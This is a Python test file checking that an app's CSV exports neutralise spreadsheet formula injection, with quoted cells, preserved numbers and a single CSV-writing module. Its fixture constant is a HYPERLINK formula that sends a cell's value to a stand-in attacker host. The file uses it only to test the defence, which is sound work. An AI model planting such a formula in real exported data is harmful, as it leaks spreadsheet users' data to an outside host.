"""Claims about CSV that leaves the app: no cell of it is a formula, and numbers stay numbers."""

import ast
import csv
import io
from dataclasses import fields, replace
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.curves.frames import differences_csv
from app.reading import runs
from app.run_table.table import table
from app.runs.run_files import runs_csv
from app.text import MOST_SHOWN, on_screen
from finegates.files.spreadsheet import FORMULA_STARTS, csv_text, harmless, no_formulas
from finegates.results.points import Point
from finegates.results.tables import as_csv
from finegates.runs.notes import write_notes
from tests.app.fake_runs import make_run

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/"&A1)'


def is_formula(cell: str) -> bool:
    return cell.lstrip(" ").startswith(FORMULA_STARTS)


@given(st.text(max_size=8) | st.sampled_from(FORMULA_STARTS).map(lambda start: f" {start}1"))
def test_no_text_is_a_formula_and_none_is_lost(text):
    plain = text.replace("\r\n", "\n").replace("\r", "\n")
    assert not is_formula(harmless(text)) and harmless(text) in (plain, f"'{plain}")
    _, (cell,) = csv.reader(io.StringIO(csv_text(["n"], [[text]]), newline=""))
    assert not is_formula(cell) and cell == harmless(text)


def test_a_formula_behind_a_carriage_return_is_in_no_row_of_its_own():
    rows = list(csv.reader(io.StringIO(csv_text(["a"], [["text\r=1+1"]]), newline="")))
    assert rows == [["a"], ["text\n=1+1"]]


@pytest.mark.parametrize("number", [-1, -0.5, 1e-9, 0, None, True])
def test_numbers_are_left_as_they_are(number):
    assert harmless(number) is number


def test_names_of_columns_are_texts_too():
    assert csv_text([FORMULA, "b"], []).startswith("\"'=HYPER")


def test_the_table_of_runs_has_no_formula(runs_dir):
    run = make_run(runs_dir, "failed", reason="@SUM(1)")
    write_notes(run.path, FORMULA, ["-1", "+2"])
    rows = runs.run_rows(runs_dir)
    (line,) = csv.DictReader(io.StringIO(runs_csv(rows)))
    assert line["notes"] == f"'{FORMULA}" and line["tags"] == "'-1;'+2" and line["seed"] == "0"
    assert not any(map(is_formula, line.values()))
    shown = table(rows, ["notes", "reason", "run", "seed"])
    assert not any(is_formula(cell) for cell in shown.iloc[0] if isinstance(cell, str))
    assert shown["notes"][0].endswith(FORMULA)
    assert table(rows, ["notes"], editing=True)["notes"][0] == FORMULA


def test_compared_runs_have_no_formula(runs_dir):
    run = make_run(runs_dir)
    frame = pd.DataFrame({"part": [FORMULA], "name": ["+x"], run.id: ["@y"]})
    (line,) = list(csv.reader(io.StringIO(differences_csv(frame, [run.id]))))[1:]
    assert not any(map(is_formula, line))


def test_points_of_the_command_line_have_no_formula():
    values = {field.name: None for field in fields(Point)}
    point = replace(Point(**values), task=FORMULA, model="@x", seeds=(0, 1), median=-0.5)
    (line,) = csv.DictReader(io.StringIO(as_csv([point])))
    assert line["task"] == f"'{FORMULA}" and line["model"] == "'@x"
    assert line["seeds"] == "0;1" and line["median"] == "-0.5"


def test_tables_of_data_on_the_page_have_none_and_are_cut():
    frame = pd.DataFrame({"=a": [FORMULA, "plain", "x" * 10**6], "n": [-1, 2, 3]})
    shown = on_screen(frame)
    assert not is_formula(shown.columns[0]) and not is_formula(shown.iloc[0, 0])
    assert shown.iloc[0, 0].endswith(FORMULA) and shown.iloc[1, 0] == "plain"
    assert len(shown.iloc[2, 0]) == MOST_SHOWN + 1 and shown["n"].tolist() == [-1, 2, 3]
    pd.testing.assert_frame_equal(no_formulas(frame[["n"]]), frame[["n"]])


def test_no_other_code_of_the_app_writes_csv():
    writers = set()
    for path in [*ROOT.glob("app/**/*.py"), *ROOT.glob("finegates/**/*.py")]:
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Attribute) and node.attr in ("to_csv", "writer", "DictWriter"):
                writers.add(path.relative_to(ROOT).as_posix())
    assert writers == {"finegates/files/spreadsheet.py"}
